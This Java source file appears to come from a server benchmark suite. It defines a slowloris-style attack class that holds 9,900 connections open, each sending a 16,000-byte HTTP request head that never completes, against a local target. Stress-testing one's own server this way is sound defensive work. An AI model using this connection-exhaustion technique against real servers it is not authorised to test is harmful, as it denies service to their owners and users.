package dev.castellan.benchmarks.attacks;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.time.Duration;

/** Sends 16,000 bytes of an endless request head, without a token, on each of 9,900 connections. */
final class UnfinishedHeads implements Attack {

    private static final IdleConnections CONNECTIONS = new IdleConnections(9_900, 4, true);
    private static final byte[] HEAD = ("GET /api/v1/users/me HTTP/1.1\r\nHost: 127.0.0.1\r\n"
                    + ("X-Filler: " + "x".repeat(988) + "\r\n").repeat(15)
                    + "X-Filler: " + "x".repeat(900))
            .getBytes(StandardCharsets.US_ASCII);

    @Override
    public String run(Target target, Duration time) throws IOException {
        return CONNECTIONS.run(target, HEAD, time);
    }
}
